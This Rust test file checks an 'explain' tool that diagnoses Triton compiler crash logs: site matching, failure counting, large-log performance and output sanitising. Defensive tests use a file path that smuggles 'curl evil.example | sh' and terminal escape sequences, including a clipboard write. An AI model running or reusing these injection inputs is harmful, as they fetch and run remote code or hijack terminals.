//! `explain` on logs it must not be fooled by: another program's assertion
//! with Triton's text, LLVM's own errors without Triton in sight, escape
//! sequences, several failures, logs of hundreds of thousands of lines.

use super::memory::peak_during;
use linear_layout_triton::escape::is_unsafe;
use linear_layout_triton::explain::{KEY_LINES, explain, explain_triton};

/// 3.2's stmatrix assertion as the wheel prints it.
const STMATRIX: &str = "python: /project/lib/Tools/LinearLayout.cpp:562: mlir::triton::LinearLayout \
    mlir::triton::LinearLayout::reshapeOuts(...) const: Assertion `getTotalOutDimSize() == \
    std::accumulate( newOutDims.begin(), newOutDims.end(), 1, [&](int32_t acc, auto &outDim) { \
    return acc * outDim.second; })' failed.";

/// 3.3's warp-shuffle assertion.
const SHUFFLE: &str = "python: /src/lib/Analysis/Utility.cpp:318: bool f(): Assertion \
    `lowerHalfRow[1] == 0' failed.";

/// A frame of Triton's package, as a real traceback holds.
const FRAME: &str =
    "  File \"/venv/lib/python3.12/site-packages/triton/compiler/compiler.py\", line 300";

fn named(log: &str) -> Option<&'static str> {
    explain(log).site.map(|m| m.site.id)
}

/// The message and its file both match, or no site is named: Triton's
/// assertion text in another program's source file is that program's.
#[test]
fn a_site_is_named_only_when_the_message_and_its_file_match() {
    assert_eq!(named(STMATRIX), Some("stmatrix"));
    let foreign = STMATRIX.replace(
        "/project/lib/Tools/LinearLayout.cpp:562",
        "/home/me/mine.cpp:9",
    );
    let e = explain(&foreign);
    assert!(e.site.is_none() && !e.known(), "{:?}", e.site);
    assert_eq!(e.unconfirmed.first().map(|m| m.site.id), Some("stmatrix"));
    assert!(e.to_text().starts_with("Unknown"));
    // a file that merely ends with Triton's file name is another file
    let lookalike = STMATRIX.replace("/Tools/LinearLayout.cpp", "/Tools/MyLinearLayout.cpp");
    assert_eq!(named(&lookalike), None);
    // the message alone (a worker's own report) is Triton's by construction
    let message = &STMATRIX[STMATRIX.find("Assertion").unwrap()..];
    assert_eq!(named(message), None);
    assert_eq!(
        explain_triton(message).site.map(|m| m.site.id),
        Some("stmatrix")
    );
}

/// Text any program may print names a site only in a log that shows
/// Triton: LLVM's own assertions and errors, a bare exception name, the C++
/// runtime's `terminate called`.
#[test]
fn text_any_program_prints_needs_triton_in_the_log() {
    for (text, site) in [
        (
            "LLVM ERROR: Cannot select: intrinsic %llvm.nvvm.shfl.sync.up.i32",
            "unknown_target",
        ),
        (
            "python: /llvm/include/llvm/ADT/ArrayRef.h:257: const T& llvm::ArrayRef<T>::operator[](size_t) \
             const [with T = mlir::Type; size_t = long unsigned int]: Assertion `Index < Length && \
             \"Invalid index!\"' failed.",
            "fp8_promotion",
        ),
        (
            "terminate called after throwing an instance of 'std::bad_alloc'",
            "nvmma_shared",
        ),
    ] {
        let alone = explain(text);
        assert!(alone.site.is_none() && !alone.known(), "{text}");
        assert!(!alone.context.triton);
        let in_triton = explain(&format!("{FRAME}\n{text}"));
        let all: Vec<&str> = in_triton
            .site
            .iter()
            .chain(&in_triton.others)
            .map(|m| m.site.id)
            .collect();
        assert!(all.contains(&site), "{text}: {all:?}");
    }
    // a bare exception name of any Python program
    assert_eq!(
        named("Traceback (most recent call last):\nAssertionError\n"),
        None
    );
}

/// An unknown log lists nearest sites only when their messages share
/// words with it.
#[test]
fn nearest_sites_share_words_or_are_not_listed() {
    let e = explain("panic: the quux overflowed its wibble\n");
    assert!(!e.known() && e.nearest.is_empty(), "{:?}", e.nearest);
    let e = explain("error: swizzle phase mismatch in the frobnicator\n");
    assert!(!e.nearest.is_empty());
    for (_, l) in &e.nearest {
        let message = l.message.to_lowercase();
        assert!(
            ["swizzle", "phase", "mismatch"]
                .iter()
                .any(|w| message.contains(w)),
            "{}",
            l.message
        );
    }
}

/// A log holding several failures says how many; the same failure
/// repeated is one.
#[test]
fn several_failures_are_counted_and_each_site_named() {
    let repeated =
        format!("{STMATRIX}\nAborted (core dumped)\n{STMATRIX}\nAborted (core dumped)\n");
    let e = explain(&repeated);
    assert_eq!(e.failures, 1);
    assert!(!e.to_text().contains("several failures"));
    let two = format!("{STMATRIX}\nAborted\n{SHUFFLE}\nAborted\n");
    let e = explain(&two);
    assert_eq!(e.failures, 2);
    let lines: Vec<(&str, usize)> = e
        .site
        .iter()
        .chain(&e.others)
        .map(|m| (m.site.id, m.line))
        .collect();
    assert!(lines.contains(&("stmatrix", 1)), "{lines:?}");
    assert!(lines.contains(&("warp_shuffle_3_3", 3)), "{lines:?}");
    assert!(e.to_text().contains("several failures: the log holds 2"));
    // a known failure and an unknown abort: two failures, one named
    let e = explain(&format!(
        "{STMATRIX}\nsomeprog: x.c:1: main: Assertion `0' failed.\n"
    ));
    assert_eq!(e.failures, 2);
    assert_eq!(e.site.map(|m| m.site.id), Some("stmatrix"));
}

/// Control characters in the log are shown, never sent to the terminal.
#[test]
fn escape_sequences_in_the_log_are_escaped_in_the_text() {
    for (log, echoed) in [
        (
            format!("{STMATRIX}\n\u{1b}]0;owned\u{7}\u{1b}[2J kernel_x[grid](a, num_warps=8)\n"),
            None,
        ),
        (
            "\u{1b}]52;c;SGVsbG8=\u{7}error: \u{9b}31mred\r\u{202e}reversed\n".to_string(),
            Some("\\u001b]52;c;SGVsbG8=\\u0007error: \\u009b31mred\\u000d\\u202ereversed"),
        ),
        (
            format!("def \u{1b}[1mkern(\n{STMATRIX}\n  File \"/a/\u{1b}[31m.py\", line 3\n"),
            Some("file /a/\\u001b[31m.py"),
        ),
    ] {
        let text = explain(&log).to_text();
        assert!(!text.chars().any(is_unsafe), "{text:?}");
        if let Some(echoed) = echoed {
            assert!(text.contains(echoed), "{text}");
        }
    }
}

/// 50,000 distinct failure lines: one pass (a quadratic de-duplication
/// takes over a billion string comparisons here) holding a few copies of
/// the log; the answer keeps the first few lines and counts them all.
#[test]
fn a_log_of_many_distinct_errors_is_read_in_one_pass() {
    let n = 50_000;
    let log: String = (0..n)
        .map(|i| format!("error: failure number {i} at {}\n", i * 7))
        .collect();
    let (e, peak) = peak_during(|| explain(&log));
    // the log's lines, its two collapsed copies and a set of its lines
    assert!(
        peak < 6 * log.len(),
        "{peak} bytes held for a log of {}",
        log.len()
    );
    assert!(!e.known());
    assert_eq!(e.key_lines.len(), KEY_LINES);
    assert_eq!(e.key_line_count, n);
    assert!(e.to_text().contains(&format!("{n} distinct failure lines")));
}

/// Patterns the context reader looks for, repeated without their ends
/// (`tt.func` without `@`, `loc("` without a quote, `tensor<` without a
/// `>`): each read stops at its line, not at the end of the log.
#[test]
fn unterminated_patterns_do_not_make_the_context_quadratic() {
    let n = 40_000;
    for unit in ["tt.func x ", "loc(\"", "tensor<1x", "num_warps ", "[grid]("] {
        let log = format!("{}\n{STMATRIX}\n", unit.repeat(n));
        let e = explain(&log);
        assert_eq!(e.site.map(|m| m.site.id), Some("stmatrix"), "{unit}");
        assert!(e.context.shapes.len() <= 6);
    }
}

/// A stray byte that was not UTF-8 (read as U+FFFD by the command line) or
/// a NUL does not hide a known assertion.
#[test]
fn replacement_characters_and_nuls_do_not_hide_a_failure() {
    let log = format!("\u{fffd}\u{fffd}garbage\0\0\n{STMATRIX}\n\u{fffd}");
    assert_eq!(named(&log), Some("stmatrix"));
}

/// The `scan` command explain suggests holds the kernel's path from the
/// log: pasted into a shell, it stays one word, whatever the path holds.
#[test]
fn the_suggested_scan_command_quotes_the_path_from_the_log() {
    let log = format!(
        "  File \"/tmp/x.py; curl evil.example | sh #.py\", line 3, in run\n    \
         kern[grid](a, num_warps=4)\n{STMATRIX}\n"
    );
    let cmd = explain(&log).scan_command().expect("a kernel is named");
    assert!(
        cmd.starts_with("linear-layout scan '/tmp/x.py; curl evil.example | sh #.py::kern' "),
        "{cmd}"
    );
    let plain = explain(&format!(
        "  File \"/home/me/a.py\", line 3\n    kern[grid](a)\n{STMATRIX}"
    ));
    assert!(
        plain
            .scan_command()
            .unwrap()
            .contains(" /home/me/a.py::kern ")
    );
}
